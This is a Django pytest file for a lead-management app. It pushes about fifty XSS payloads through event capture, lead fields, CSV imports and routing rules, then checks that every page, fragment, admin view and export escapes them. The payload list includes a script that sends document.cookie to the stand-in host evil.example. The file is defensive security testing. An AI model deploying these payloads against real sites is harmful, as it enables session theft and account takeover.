"""Hostile data: XSS payloads sent through every tracked field and lead attribute render inert everywhere."""

import uuid

import pytest
from django.urls import reverse
from django.utils import timezone

from leadcockpit.capture.models import ApiKey
from leadcockpit.handover import actions as handover_actions
from leadcockpit.handover.models import RoutingRule
from leadcockpit.leads.models import Lead, SalesActivity, Touchpoint

from .factories import CompanyFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><script>alert(2)</script>',
    "'><img src=x onerror=alert(3)>",
    "<img src=x onerror=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<body onload=alert(7)>",
    "<iframe src=javascript:alert(8)>",
    '<a href="javascript:alert(9)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>",
    "<details open ontoggle=alert(11)>",
    "<input autofocus onfocus=alert(12)>",
    "<video><source onerror=alert(13)>",
    "<audio src=x onerror=alert(14)>",
    "<marquee onstart=alert(15)>",
    '<object data="javascript:alert(16)">',
    '<embed src="javascript:alert(17)">',
    "<form><button formaction=javascript:alert(18)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(19)>",
    "<style>@import 'javascript:alert(20)';</style>",
    '<div style="background:url(javascript:alert(21))">',
    "<link rel=import href=data:text/html,<script>alert(22)</script>>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(23)">',
    "<base href=javascript:alert(24)//>",
    "<textarea></textarea><script>alert(25)</script>",
    "</title><script>alert(26)</script>",
    "</script><script>alert(27)</script>",
    "<!--<img src=x onerror=alert(28)>-->",
    "<![CDATA[<script>alert(29)</script>]]>",
    '" onmouseover="alert(30)',
    "' onmouseover='alert(31)",
    "` onmouseover=alert(32)",
    "javascript:alert(33)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgzNCk8L3NjcmlwdD4=",
    "<scr<script>ipt>alert(35)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/36.js></SCRIPT>",
    "<ScRiPt>alert(37)</sCrIpT>",
    "%3Cscript%3Ealert(38)%3C/script%3E",
    "&lt;script&gt;alert(39)&lt;/script&gt;",
    "<img src=`x` onerror=alert(40)>",
    "<img/src=x/onerror=alert(41)>",
    "<svg/onload=alert(42)>",
    "<x contenteditable onblur=alert(43)>",
    "<select autofocus onfocus=alert(44)>",
    "<keygen autofocus onfocus=alert(45)>",
    "{{7*7}}<script>alert(46)</script>",
    "{% debug %}<script>alert(47)</script>",
    "\u202e<script>alert(48)</script>",
    "<img src=x onerror=alert(49)//",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
]
RAW_MARKERS = [
    "<script",
    "<img",
    "<svg",
    "<iframe",
    "<body",
    "<details",
    "<input",
    "<video",
    "<audio",
    "<marquee",
    "<object",
    "<embed",
    "<button",
    "<isindex",
    "<style",
    "<link",
    "<meta",
    "<base",
    "<textarea",
    "<math",
    "<x ",
    "<select",
    "<keygen",
    '<a href="javascript',
    'onmouseover="alert',
]


@pytest.fixture
def hostile_lead(rep, inside_team):
    """A lead whose name, title and company carry payloads, with touchpoints whose every text field does too."""
    company = CompanyFactory(name=PAYLOADS[0], region=PAYLOADS[1], domain="evil.example")
    lead = Lead.objects.create(
        email="hostile@firma.example",
        first_name=PAYLOADS[2][:100],
        last_name=PAYLOADS[3][:100],
        job_title=PAYLOADS[4][:100],
        company=company,
        owner=rep,
        stage_id="mql",
    )
    _key, secret = ApiKey.issue(name="Hostile")
    events = []
    for index, payload in enumerate(PAYLOADS):
        events.append(
            {
                "event_id": str(uuid.uuid4()),
                "type": "page_view" if index % 2 else "site_search",
                "occurred_at": timezone.now().isoformat(),
                "url": "https://www.example.com/?q=" + payload[:1900],
                "referrer": "https://ref.example/" + payload[:1900],
                "title": payload[:300],
                "search_terms": payload[:200],
                "utm_source": payload[:100],
                "utm_medium": payload[:100],
                "utm_campaign": payload[:100],
                "email": lead.email,
                "properties": {"payload": payload},
            }
        )
    from django.test import Client

    response = Client().post(
        "/api/v1/events/batch", {"events": events}, content_type="application/json", HTTP_X_API_KEY=secret
    )
    assert response.status_code == 202
    assert response.json()["accepted"] == len(PAYLOADS)
    SalesActivity.objects.create(
        lead=lead, rep=rep, kind="call", note=PAYLOADS[5], occurred_at=timezone.now()
    )
    RoutingRule.objects.create(name=PAYLOADS[6][:100], team=inside_team)
    handover_actions.route_lead(lead_id=lead.pk)
    return lead


def assert_inert(response):
    assert response.status_code == 200, response.status_code
    text = response.content.decode()
    for marker in RAW_MARKERS:
        # Our own markup uses none of these with a payload's attributes; any raw occurrence is a payload.
        for payload in PAYLOADS:
            if marker in payload and payload in text:
                raise AssertionError(f"raw payload {payload!r} in {response.request['PATH_INFO']}")


def test_every_page_and_fragment_renders_hostile_data_inert(client_for, hostile_lead, marketer, rep, manager):
    lead = hostile_lead
    assert Touchpoint.objects.filter(lead=lead).count() == len(PAYLOADS)
    pages = [
        (marketer, reverse("leads:list"), {}),
        (marketer, reverse("leads:list"), {"q": PAYLOADS[0]}),
        (marketer, reverse("leads:list"), {"HTTP_HX_REQUEST": "true"}),
        (marketer, reverse("leads:detail", args=[lead.pk]), {}),
        (marketer, reverse("scoring:lead_score", args=[lead.pk]), {"HTTP_HX_REQUEST": "true"}),
        (marketer, reverse("handover:sales_work", args=[lead.pk]), {}),
        (rep, reverse("handover:inbox"), {}),
        (rep, reverse("handover:inbox"), {"HTTP_HX_REQUEST": "true"}),
        (manager, reverse("handover:routing"), {}),
        (marketer, reverse("handover:feedback"), {}),
    ]
    for user, url, extra in pages:
        params = {"q": extra.pop("q")} if "q" in extra else {}
        assert_inert(client_for(user).get(url, params, **extra))


def test_the_admin_renders_hostile_data_inert(client_for, hostile_lead, admin_user):
    client = client_for(admin_user)
    touchpoint = Touchpoint.objects.filter(lead=hostile_lead).first()
    for url in [
        reverse("admin:leads_lead_changelist"),
        reverse("admin:leads_lead_change", args=[hostile_lead.pk]),
        reverse("admin:leads_touchpoint_changelist"),
        reverse("admin:leads_touchpoint_change", args=[touchpoint.pk]),
        reverse("admin:leads_salesactivity_changelist"),
        reverse("admin:handover_routingrule_changelist"),
        reverse("admin:handover_handover_changelist"),
    ]:
        assert_inert(client.get(url))


def test_the_export_keeps_payloads_as_text_and_formulas_inert(client_for, hostile_lead, marketer):
    response = client_for(marketer).get(reverse("leads:export"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert PAYLOADS[2][:100] in text  # CSV is text, not markup: kept as sent, quoted where needed
    assert "\n=" not in text
    assert ",=" not in text


@pytest.fixture
def hostile_import(client_for, marketer, django_capture_on_commit_callbacks, tasks_in_process):
    """Leads imported from a CSV whose every cell is a payload: names, title, company, region and attributes,
    plus rows that are rejected with their payloads quoted in the reason."""
    import csv
    import io

    from leadcockpit.capture.models import ImportJob

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Email", "First name", "Last name", "Job title", "Company", "Region", "Note", "Phone"])
    for index, payload in enumerate(PAYLOADS):
        writer.writerow([f"imported{index}@firma.example", *[payload[:100]] * 6, payload[:40]])
        writer.writerow([payload[:200], payload[:100], "", "", "", "", "", ""])  # rejected: no email
    client = client_for(marketer)
    upload = io.BytesIO(out.getvalue().encode())
    upload.name = f"{PAYLOADS[0]}.csv"
    response = client.post(reverse("capture:imports"), {"kind": "leads", "file": upload})
    assert response.status_code == 302
    job = ImportJob.objects.get()
    assert_inert(client.get(response.url))  # the mapping and preview
    mapping = {}
    for position, entry in enumerate(job.mapping["columns"]):
        mapping[f"c{position}_target"] = entry["target"]
        mapping[f"c{position}_type"] = entry.get("type", "text")
        mapping[f"c{position}_provenance"] = entry.get("provenance", "marketing")
    with django_capture_on_commit_callbacks(execute=True):
        client.post(response.url, {**mapping, "action": "start"})
    job.refresh_from_db()
    assert (job.created, job.rejected) == (len(PAYLOADS), len(PAYLOADS))
    return job


def test_imported_payloads_render_inert_on_every_page_fragment_admin_view_and_report(
    client_for, hostile_import, marketer, admin_user
):
    job = hostile_import
    lead = Lead.objects.get(email="imported0@firma.example")
    assert lead.attributes["note"] == PAYLOADS[0]
    client = client_for(marketer)
    for url, extra in [
        (reverse("capture:imports"), {}),
        (reverse("capture:import_detail", args=[job.pk]), {}),
        (reverse("capture:import_progress", args=[job.pk]), {"HTTP_HX_REQUEST": "true"}),
        (reverse("leads:list"), {}),
        (reverse("leads:list"), {"HTTP_HX_REQUEST": "true"}),
        (reverse("leads:detail", args=[lead.pk]), {}),
        (reverse("scoring:lead_score", args=[lead.pk]), {"HTTP_HX_REQUEST": "true"}),
    ]:
        assert_inert(client.get(url, **extra))
    admin = client_for(admin_user)
    for url in [
        reverse("admin:leads_lead_change", args=[lead.pk]),
        reverse("admin:leads_company_changelist"),
        reverse("admin:capture_importjob_changelist"),
        reverse("admin:capture_importjob_change", args=[job.pk]),
    ]:
        assert_inert(admin.get(url))

    for url in [reverse("capture:import_report", args=[job.pk]), reverse("leads:export")]:
        text = b"".join(client_for(marketer).get(url).streaming_content).decode("utf-8-sig")
        assert PAYLOADS[2][:100] in text  # kept as text
        assert "\n=" not in text
        assert ",=" not in text
